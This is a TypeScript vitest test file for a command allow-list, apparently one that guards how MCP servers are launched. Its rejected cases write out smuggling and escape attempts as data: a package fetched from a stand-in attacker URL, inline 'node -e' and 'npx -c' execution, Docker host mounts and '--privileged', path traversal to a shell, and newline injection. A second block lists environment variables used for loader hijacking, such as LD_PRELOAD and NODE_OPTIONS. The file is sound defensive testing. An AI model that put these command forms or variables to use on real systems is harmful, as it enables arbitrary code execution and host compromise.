/** The setting `allowedCommands`. */
import { describe, expect, it } from 'vitest';
import { commandList, loaderVariable } from '../../../src/backends/rules/allowed-commands.ts';

const allows = (entries: string[], command: string, ...args: string[]) =>
  commandList(entries).allows({ command, args });

describe('an entry', () => {
  it.each<[string, string, string[]]>([
    ['uvx', 'uvx', ['mcp-server-git']],
    ['uvx mcp-server-git', 'uvx', ['mcp-server-git', '--repository', '/srv']],
    ['npx -y @modelcontextprotocol/*', 'npx', ['-y', '@modelcontextprotocol/server-memory']],
    ['npx -y @modelcontextprotocol/*', 'npx', ['-y', '@modelcontextprotocol/server-memory@2026.1.0']],
    ['/opt/mcp/*', '/opt/mcp/files', []],
    ['  node   /srv/x.js ', 'node', ['/srv/x.js']],
    ['a.c', 'a.c', []],
    ['npx -y *', 'npx', ['-y', '@scope+name', '--verbose']],
    ['uvx mcp-server-*', 'uvx', ['mcp-server-git']],
    ['uvx mcp-server-*', 'uvx', ['mcp-server-']],
    ['uvx *-server', 'uvx', ['git-server']],
    ['docker run --rm -i mcp/*', 'docker', ['run', '--rm', '-i', 'mcp/git', '-v']],
    ['server --name=*', 'server', ['--name=-x']],
    ['docker run', 'docker', ['run', '-v', '/:/host', 'mcp/git']],
  ])('"%s" allows %s %j', (entry, command, args) => expect(allows([entry], command, ...args)).toBe(true));

  it.each<[string, string, string[]]>([
    ['uvx', 'npx', []],
    ['uvx', '/usr/bin/uvx', []],
    ['uvx', 'uvx2', []],
    ['uvx mcp-server-git', 'uvx', []],
    ['uvx mcp-server-git', 'uvx', ['--from', 'evil', 'mcp-server-git']],
    ['npx -y @modelcontextprotocol/*', 'npx', ['-y', '@modelcontextprotocol/x/../../evil']],
    ['npx -y @modelcontextprotocol/*', 'npx', ['-y', '@modelcontextprotocol/x@npm:evil']],
    ['npx -y @modelcontextprotocol/*', 'npx', ['-y', '@modelcontextprotocol/x@https://evil.example/t.tgz']],
    ['npx -y @modelcontextprotocol/*', 'npx', ['-y', '@modelcontextprotocol/x evil']],
    ['npx -y @modelcontextprotocol/*', 'npx', ['-y', '@modelcontextprotocol/x\nevil']],
    ['/opt/mcp/*', '/opt/mcp/../../bin/sh', []],
    ['/opt/mcp/*', '/opt/mcp/a/b', []],
    ['/opt/mcp/..', '/opt/mcp/..', []],
    ['*', './evil', []],
    ['./mine', './mine', []],
    ['a.c', 'abc', []],
    ['node', 'node -e evil', []],
    ['node', '', []],
    ['docker run *', 'docker', ['run', '-v', '/:/host', 'mcp/git']],
    ['docker run --rm *', 'docker', ['run', '--rm', '--privileged', 'mcp/git']],
    ['node *', 'node', ['-e', 'evil']],
    ['node *', 'node', []],
    ['node *', 'node', ['']],
    ['npx -y *', 'npx', ['-y', '-c', 'evil']],
    ['npx -y *', 'npx', ['-y', '--package=evil', 'evil']],
    ['npx -y *', 'npx', ['-y', '.']],
    ['npx -y **', 'npx', ['-y', '-c', 'evil']],
    ['uvx *-server', 'uvx', ['--from=evil-server']],
    ['node /srv/*', 'node', ['/srv/..']],
    ['node /srv/*', 'node', ['/srv/']],
    ['*', '-c', []],
  ])('"%s" does not allow %j %j', (entry, command, args) =>
    expect(allows([entry], command, ...args)).toBe(false),
  );

  it('stands beside others', () => {
    expect(allows(['uvx a', 'uvx b'], 'uvx', 'b')).toBe(true);
  });
});

describe('a variable that makes a command load something else', () => {
  it.each([
    'PATH',
    'LD_PRELOAD',
    'ld_library_path',
    'DYLD_INSERT_LIBRARIES',
    'NODE_OPTIONS',
    'npm_config_registry',
    'NPM_CONFIG_USERCONFIG',
    'PYTHONPATH',
    'PYTHONSTARTUP',
    'UV_INDEX_URL',
    'PIP_INDEX_URL',
    'BASH_ENV',
    'BASH_FUNC_date%%',
    'BASH_FUNC_date()',
    'BASH_LOADABLES_PATH',
    'SHELLOPTS',
    'PS4',
    'OPENSSL_CONF',
    'JAVA_TOOL_OPTIONS',
    'GIT_SSH_COMMAND',
    'HOME',
  ])('is %s', name => expect(loaderVariable({ API_KEY: 'x', [name]: 'x' })).toBe(name));

  it('is none that servers are configured with', () => {
    expect(loaderVariable({ API_KEY: 'x', DATABASE_URL: 'x', MY_PATH: 'x', NODE_ENV: 'x' })).toBeUndefined();
  });
});
